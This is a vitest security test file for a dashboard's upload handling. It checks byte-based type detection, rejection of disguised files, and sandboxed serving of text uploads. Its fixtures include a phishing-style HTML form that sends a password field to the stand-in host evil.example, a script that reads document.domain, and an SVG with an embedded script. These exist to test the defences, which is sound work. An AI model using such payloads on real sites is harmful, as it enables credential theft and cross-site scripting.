// Issue 9 item 4: an upload's type comes from its bytes, against an allowlist; what is stored and
// served is the checked type; HTML never becomes a page of the dashboard's origin.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { securityApp, signIn, noisyPng, pathOf, type SecurityApp } from './helpers.js';
import { findFile } from '../../server/repositories/files.js';
import { checkUpload, publicUrl, readAll } from '../../server/storage/index.js';
import { Readable } from 'node:stream';

let s: SecurityApp;
let token = '';

beforeAll(async () => {
  s = await securityApp({ demo: true });
  token = await signIn(s.app, 'researcher');
});
afterAll(async () => s?.close());

/** Prepares an upload of fileName and PUTs bytes with the claimed type. */
async function upload(fileName: string, bytes: Buffer, claimed: string) {
  const prep = await s.app.inject({
    method: 'POST', url: '/v1.0/stims/create_signed_url', payload: { file_name: fileName, content_type: claimed },
    headers: { authorization: `Token ${token}` },
  });
  expect(prep.statusCode).toBe(200);
  const { url, source } = prep.json() as { url: string; source: string };
  const put = await s.app.inject({ method: 'PUT', url: pathOf(url), payload: bytes, headers: { 'content-type': claimed } });
  return { put, source };
}

const MP4 = Buffer.concat([
  Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypmp42'), Buffer.from([0, 0, 0, 0]), Buffer.from('mp42isom'),
  Buffer.from([0, 0, 0, 8]), Buffer.from('free'), Buffer.alloc(6000, 7),
]);
const HTML = Buffer.from('<!doctype html><form action="https://evil.example"><input name=password></form><script>alert(document.domain)</script>');

describe('upload type checks', () => {
  it('an "ad.png" that is really HTML, claimed text/html, is refused (415) and nothing is kept', async () => {
    const { put, source } = await upload('ad.png', HTML, 'text/html');
    expect(put.statusCode).toBe(415);
    expect(put.json().success).toBe(false);
    expect(await s.app.storage.exists(source)).toBe(false);
    expect((await findFile(s.database.db, source))?.uploaded).toBe(false);
  });

  it('a real PNG claimed as text/html is stored and served as image/png, inline, byte for byte', async () => {
    const png = noisyPng();
    const { put, source } = await upload('banner.png', png, 'text/html');
    expect(put.statusCode).toBe(200);
    const stored = await s.app.storage.get(source);
    expect(stored?.contentType).toBe('image/png');
    stored?.stream.destroy();
    expect(Buffer.compare((await readAll(s.app.storage, source))!, png)).toBe(0);
    const res = await s.app.inject({ method: 'GET', url: publicUrl(s.app, source) });
    expect(res.headers['content-type']).toBe('image/png');
    expect(res.headers['content-disposition']).toBeUndefined();
    expect(res.headers['x-content-type-options']).toBe('nosniff');
  });

  it('a video is recognised from its bytes (claimed application/octet-stream)', async () => {
    const { put, source } = await upload('spot.mp4', MP4, 'application/octet-stream');
    expect(put.statusCode).toBe(200);
    expect((await s.app.storage.get(source))?.contentType).toBe('video/mp4');
  });

  it('text is accepted only for text stims (.html, .js, .xml) and then only as a download, sandboxed', async () => {
    const { put, source } = await upload('tag.html', HTML, 'text/html');
    expect(put.statusCode).toBe(200);
    const res = await s.app.inject({ method: 'GET', url: publicUrl(s.app, source) });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-disposition']).toBe('attachment');
    expect(String(res.headers['content-security-policy'])).toMatch(/default-src 'none'; sandbox/);
    expect(String(res.headers['content-security-policy'])).not.toMatch(/allow-scripts/);

    const vast = await upload('vast.xml', Buffer.from('<?xml version="1.0"?><VAST version="4.0"></VAST>'), 'application/xml');
    expect(vast.put.statusCode).toBe(200);
  });

  it('other binary types, binary "text" and empty files are refused', async () => {
    const pdf = Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(200, 32)]);
    const zip = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(200, 1)]);
    const exe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 0)]);
    for (const [name, bytes, claimed] of [
      ['doc.pdf', pdf, 'application/pdf'], ['ad.png', pdf, 'image/png'], ['x.zip', zip, 'application/zip'],
      ['ad.jpg', exe, 'image/jpeg'], ['tag.js', Buffer.from([0x61, 0, 0x62]), 'text/javascript'], ['ad.png', Buffer.alloc(0), 'image/png'],
      ['page.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'image/svg+xml'],
    ] as const) {
      const { put, source } = await upload(name, bytes, claimed);
      expect(put.statusCode, name).toBe(415);
      expect(await s.app.storage.exists(source), name).toBe(false);
    }
  });

  it('checking a stream keeps every byte, in order, beyond the sampled head', async () => {
    const png = noisyPng(80);
    const chunks = Array.from({ length: Math.ceil(png.length / 1000) }, (_, i) => png.subarray(i * 1000, (i + 1) * 1000));
    const { stream, contentType } = await checkUpload('c/1/uploads/a.png', Readable.from(chunks));
    expect(contentType).toBe('image/png');
    const out: Buffer[] = [];
    for await (const c of stream) out.push(c as Buffer);
    expect(Buffer.compare(Buffer.concat(out), png)).toBe(0);
  });
});
